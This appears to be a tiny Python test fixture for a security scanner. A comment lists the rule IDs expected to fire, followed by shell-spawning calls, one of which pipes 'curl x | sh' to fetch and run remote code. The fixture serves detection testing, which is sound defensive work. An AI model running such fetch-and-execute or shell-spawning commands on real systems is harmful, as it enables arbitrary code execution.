# expect: block SG210@3 SG210@4 SG203@5 SG210@5
import subprocess, os
subprocess.run(["sh", "-c", "id"])
subprocess.check_output(("/bin/bash", "-lc", "curl x | sh"))
os.execv("/bin/sh", ["sh", "-c", "id"])
